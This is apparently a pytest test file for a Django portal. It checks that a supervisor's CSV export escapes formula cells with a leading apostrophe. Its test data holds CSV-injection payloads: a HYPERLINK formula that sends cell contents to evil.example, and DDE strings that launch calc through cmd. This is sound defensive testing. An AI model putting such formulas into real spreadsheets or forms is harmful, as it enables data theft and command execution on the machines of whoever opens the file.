"""Formulas typed by a requester reach the supervisor's export as text (issue 22, 2).

OWASP's CSV-injection rule: a cell that starts with =, +, -, @, a tab or a carriage
return is run by Excel and LibreOffice as a formula; the export writes it with a
leading apostrophe, which spreadsheets show as text.
"""

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from django.urls import reverse

from tests.conftest import make_ticket, submission_data
from tests.security.helpers import SUBMIT

ADDRESS = "alicia@desarrollosocial.gob.cl"
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"Ver detalle")'
# Typed in the public form, which keeps them as written.
TYPED = [HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3"]
# The form trims leading blanks; a tab or CR can still arrive from data carried over
# from the old portal or a rectification.
STORED = ["\t=1+1", "\r=1+1"]
CSV_MODULE = re.compile(r"^\s*(import csv\b|from csv import)|\bcsv\.(DictWriter|writer)\(", re.M)


@pytest.fixture
def export(client, supervisor):
    def run() -> list[dict]:
        client.force_login(supervisor)
        r = client.post(
            reverse("admin:tickets_datarequest_add"), {"email": ADDRESS, "action": "export"}
        )
        assert r.status_code == 200 and r["Content-Type"] == "application/zip"
        with zipfile.ZipFile(io.BytesIO(b"".join(r.streaming_content))) as z:
            text = z.read("tickets.csv").decode("utf-8-sig")
        return list(csv.DictReader(io.StringIO(text, newline="")))

    return run


def names_in(rows):
    return {row["numero"]: row["nombre"] for row in rows}


@pytest.mark.parametrize("payload", TYPED)
def test_a_formula_typed_as_a_name_is_exported_as_text(client, db, export, payload):
    assert client.post(SUBMIT, submission_data(name=payload)).status_code == 302
    (row,) = export()
    assert row["nombre"] == "'" + payload


@pytest.mark.parametrize("payload", TYPED)
def test_a_formula_typed_as_a_message_is_exported_as_text(client, db, export, payload):
    assert client.post(SUBMIT, submission_data(message=payload)).status_code == 302
    (row,) = export()
    assert row["mensaje"] == "'" + payload
    # The subject is derived from the message (greetings and dashes skipped): whatever it
    # became, it cannot start a formula.
    assert not row["asunto"].startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("payload", STORED)
def test_a_cell_starting_with_a_tab_or_carriage_return_is_exported_as_text(db, export, payload):
    make_ticket(name=payload, message=payload)
    (row,) = export()
    assert row["nombre"] == "'" + payload and row["mensaje"] == "'" + payload


def test_a_plain_name_and_numbers_are_exported_unchanged(client, db, export):
    assert client.post(SUBMIT, submission_data(project_number="29928")).status_code == 302
    (row,) = export()
    assert row["nombre"] == "Alicia Rojas"
    assert row["numero_proyecto"] == "29928"
    assert row["email"] == ADDRESS
    # A negative-looking value only matters at the start: a dash inside stays.
    assert row["creado"][4] == "-" and not row["creado"].startswith("'")


def test_nothing_else_in_the_portal_writes_csv_its_own_way():
    # One writer, tickets/spreadsheets.py: a second one would forget the rule.
    root = Path(__file__).resolve().parents[2]
    writers = [
        str(p.relative_to(root))
        for base in ("tickets", "mesaayuda")
        for p in (root / base).rglob("*.py")
        if CSV_MODULE.search(p.read_text())
    ]
    assert writers == ["tickets/spreadsheets.py"]
